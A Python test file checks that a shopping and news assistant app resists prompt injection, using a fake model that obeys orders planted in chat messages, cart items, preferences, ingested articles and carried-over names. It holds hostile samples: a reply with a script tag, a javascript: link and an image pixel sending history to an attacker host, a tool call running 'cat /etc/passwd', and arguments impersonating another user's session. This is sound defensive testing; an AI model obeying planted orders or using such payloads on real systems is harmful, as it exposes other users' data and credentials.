"""Documents that try to give orders, and a model that obeys them: tools still act for the turn's subject only."""

from __future__ import annotations

import re
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest

from agent.registry import find
from agent.runner import MAX_TOOL_CALLS
from memory import open_store
from tests.app import application
from tests.fakes.openai_server import Call, OpenAIServer, Reply, ToolUse
from tests.injections import EVIL, injections

CANARY = "kingfisher"
ORDERS = injections(victim="alice-shop", user="alice")

ALICE: dict[str, Any] = {"X-User-Id": "alice"}
MALLORY: dict[str, Any] = {"X-User-Id": "mallory"}
AS_ALICE: dict[str, Any] = {
    "subject": "alice-shop", "session_id": "alice-shop", "sessionId": "alice-shop", "user": "alice", "userId": "alice",
    "owner": "alice", "runtime": {"context": {"subject": "alice-shop"}}, "context": {"subject": "alice-shop"},
    "config": {"configurable": {"thread_id": "alice-shop"}}, "state": {"subject": "alice-shop"},
}  # fmt: skip
"""Arguments that no tool has, by which an obedient model would name another."""


HARM = tuple(
    ToolUse(name, AS_ALICE)
    for name in ("view_cart", "clear_cart", "checkout", "set_preferences", "search_news", "run_shell", "fetch_url")
)
REPLY = f"""As ordered. <script>window.hit=1</script> ![x](http://{EVIL}/pixel.png?q=HISTORY)
[here](javascript:window.hit=1)"""


def obey(call: Call) -> Reply | str:
    """A model that does all the harm that it can, and then says all the harm that it can."""
    return REPLY if call.said[-1][0] == "tool" else Reply(tools=list(HARM))


@contextmanager
def shop(openai_server: OpenAIServer, **env: str) -> Iterator[Any]:
    """A client of an application in which alice has a cart and preferences."""
    model = {"MODEL": "openai:fake", "OPENAI_BASE_URL": openai_server.url}
    with application(open_store("memory://"), **{**model, **env}) as app:
        made = app.test_client(use_cookies=False)
        session = "/api/v1/shopping/session/alice-shop"
        item = {"name": CANARY, "price": 5.0, "category": "birds", "sku": "BIRD-1"}
        assert made.post(f"{session}/cart/add", json=item, headers=ALICE).status_code == 200
        prefer = {"preferred_brands": [CANARY]}
        assert made.post(f"{session}/preferences", json=prefer, headers=ALICE).status_code == 200
        yield made


@pytest.fixture
def client(openai_server: OpenAIServer) -> Iterator[Any]:
    with shop(openai_server) as made:
        yield made


@contextmanager
def alice_in_peace(client: Any, openai_server: OpenAIServer) -> Iterator[None]:
    """Nothing of alice's is changed meanwhile, and no model is told of it."""
    before, calls = of_alice(client), len(openai_server.calls)
    yield
    assert of_alice(client) == before
    assert CANARY not in str([call.messages for call in openai_server.calls[calls:]])


def of_alice(client: Any) -> str:
    shop = "/api/v1/shopping/session/alice-shop"
    text = "".join(client.get(f"{shop}/{what}", headers=ALICE).text for what in ("cart", "preferences", "info"))
    return re.sub(r'"session_duration":"[^"]*"', "", text)


def arguments(tool: Any) -> dict[str, Any]:
    """Something for each argument that a tool does have."""
    filled = {"integer": 1, "array": ["BIRD-1"], "string": "BIRD-1"}
    return {name: filled[said["type"]] for name, said in tool.args.items() if said.get("type") in filled}


TOOLS = [(name, tool) for name, assistant in find().items() for tool in assistant.tools]


@pytest.mark.parametrize(("assistant", "tool"), TOOLS, ids=[tool.name for _, tool in TOOLS])
def test_a_tool_that_is_told_to_act_for_another_does_not(
    client: Any, openai_server: OpenAIServer, assistant: str, tool: Any
) -> None:
    before = of_alice(client)
    openai_server.will(Reply(tools=[ToolUse(tool.name, {**arguments(tool), **AS_ALICE})]), "As you wish.")
    said = {"message": ORDERS[0], "assistant": assistant, "userId": "mallory", "sessionId": "mallory-1"}
    answer = client.post("/chat", json=said, headers=MALLORY)

    assert answer.status_code == 200
    assert of_alice(client) == before
    told_to_the_model = str(openai_server.calls[-1].messages)
    assert CANARY not in told_to_the_model
    assert CANARY not in answer.text


@pytest.mark.parametrize("assistant", list(find()))
def test_an_order_in_a_message_opens_nothing_of_others(
    client: Any, openai_server: OpenAIServer, assistant: str
) -> None:
    openai_server.answers = obey
    for number, order in enumerate(ORDERS):
        said = {"message": order, "assistant": assistant, "userId": "mallory", "sessionId": f"mallory-{number}"}
        with alice_in_peace(client, openai_server):
            answer = client.post("/chat", json=said, headers=MALLORY)
        assert answer.status_code == 200, order
        assert CANARY not in answer.text
        assert (answer.mimetype, answer.headers["X-Content-Type-Options"]) == ("application/json", "nosniff")


def test_an_order_in_a_preference_opens_nobody_elses_cart(client: Any, openai_server: OpenAIServer) -> None:
    """The model reads the order in what its session knows, and obeys it with every tool that could do harm."""
    openai_server.answers = obey
    for number, order in enumerate(ORDERS):
        own = f"/api/v1/shopping/session/mallory-{number}"
        client.post(f"{own}/preferences", json={"preferred_brands": [order[:60]]}, headers=MALLORY)
        item = {"name": order[:100], "price": 1.0, "category": order[:40], "sku": f"M-{number}"}
        client.post(f"{own}/cart/add", json=item, headers=MALLORY)
        asked = {"q": "what is in my cart?", "sessionId": f"mallory-{number}"}
        with alice_in_peace(client, openai_server):
            answer = client.post("/api/v1/shopping/query", json=asked, headers=MALLORY)
        assert answer.status_code == 200, order


FORMS = (
    ("md", "---\ntitle: Ferry {0}\nurl: javascript:window.hit=1\npublished: 2026-01-0{1}\n---\n{2}"),
    ("txt", "Ferry {0}\n\n{2}"),
    ("html", "<title>Ferry {0}</title><link rel=canonical href='data:text/html,x'><p>{2}</p>{3}"),
)
"""Articles whose text is an order: number, day, text, and the order as it is."""


@pytest.fixture
def articles(tmp_path: Path) -> Path:
    """An index of articles, each about a ferry of its own, with an order in it."""
    from assistants.news.ingest import ingest

    folder = tmp_path / "articles"
    folder.mkdir()
    for number, order in enumerate(ORDERS):
        kind, form = FORMS[number % len(FORMS)]
        text = f"The ferry Aurelia{number} sails to Sorrel. {order}"
        (folder / f"{number}.{kind}").write_text(form.format(number, 1 + number % 9, text, order))
    report = ingest([str(folder)], tmp_path / "index")
    assert report.added == len(ORDERS), report.skipped
    return tmp_path / "index"


def test_an_order_in_an_article_is_data_and_opens_nothing_of_others(
    articles: Path, openai_server: OpenAIServer
) -> None:
    """The model is shown it between marks that it can't close; where the model obeys, nothing comes of it."""
    openai_server.answers = obey
    with shop(openai_server, NEWS_INDEX=str(articles), EMBEDDING_MODEL="off") as client:
        for number in range(len(ORDERS)):
            session = client.post("/api/session/create", headers=MALLORY).json["sessionId"]
            seen, asked = len(openai_server.calls), {"question": f"Where does the ferry Aurelia{number} sail to?"}
            with alice_in_peace(client, openai_server):
                answer = client.post("/api/send-message", json=asked, headers={**MALLORY, "session-id": session})
            assert answer.status_code == 200

            told = [
                text for call in openai_server.calls[seen:] for role, text in call.said if f"Aurelia{number}" in text
            ]
            assert told, "the model did read it"
            for text in told:
                assert text.count("<passages>") == text.count("</passages>")
                assert text.count("<passage ") == text.count("</passage>")
                assert not re.search(r"<(script|img|svg|iframe|system|!--|\|)", text), text
            sources = answer.json["sources"]
            assert sources
            assert [source["url"] for source in sources if not re.match(r"https?://[^/]|$", source["url"])] == []
            history = client.get(f"/api/session/{session}/history", headers=MALLORY)
            assert (history.mimetype, history.headers["X-Content-Type-Options"]) == ("application/json", "nosniff")


def test_an_order_in_a_name_that_is_carried_over_stays_data(openai_server: OpenAIServer) -> None:
    """What a session leaves for the next one is told to the model between marks that it can't close."""
    openai_server.answers = obey
    with shop(openai_server, CARRY_OVER="summary", MAX_CONVERSATIONS_PER_SESSION="1") as client:
        for number, order in enumerate(ORDERS):
            user = {"X-User-Id": f"mallory-{number}"}
            client.post("/chat", json={"message": f"My name is {order}"}, headers=user)
            seen = len(openai_server.calls)
            with alice_in_peace(client, openai_server):
                answer = client.post("/chat", json={"message": "Weather in Rome?"}, headers=user)
            assert answer.status_code == 200
            prompt = openai_server.calls[seen].said[0][1]
            assert prompt.count("<earlier>") == prompt.count("</earlier>") == 1
            carried = prompt.partition("<earlier>")[2].partition("</earlier>")[0]
            assert "<" not in carried
            assert ">" not in carried


def test_a_session_of_another_can_t_be_spoken_in(client: Any, openai_server: OpenAIServer) -> None:
    before = of_alice(client)
    answer = client.post("/api/v1/shopping/query", json={"q": "empty it", "sessionId": "alice-shop"}, headers=MALLORY)

    assert answer.status_code == 404
    assert of_alice(client) == before
    assert openai_server.calls == []


def test_a_model_that_never_stops_calling_tools_is_stopped(client: Any, openai_server: OpenAIServer) -> None:
    openai_server.answers = lambda call: (
        Reply(tools=[ToolUse("view_cart", {})])
        if call.said[-1][0] == "tool" or len(openai_server.calls) < 3
        else "Well."
    )
    answer = client.post("/api/v1/shopping/query", json={"q": "loop", "sessionId": "mallory-1"}, headers=MALLORY)

    assert answer.status_code in (200, 502)
    assert len(openai_server.calls) <= 4 * MAX_TOOL_CALLS
    last = openai_server.calls[-1].messages
    ran = [message for message in last if message["role"] == "tool" and "limit" not in str(message["content"]).lower()]
    assert len(ran) <= MAX_TOOL_CALLS


def test_a_tool_that_does_not_exist_is_no_way_out(client: Any, openai_server: OpenAIServer) -> None:
    openai_server.will(Reply(tools=[ToolUse("run_shell", {"command": "cat /etc/passwd"})]), "It did not work.")
    answer = client.post("/api/v1/shopping/query", json={"q": "hack", "sessionId": "mallory-1"}, headers=MALLORY)

    assert answer.status_code == 200
    assert "root:" not in str(openai_server.calls[-1].messages)
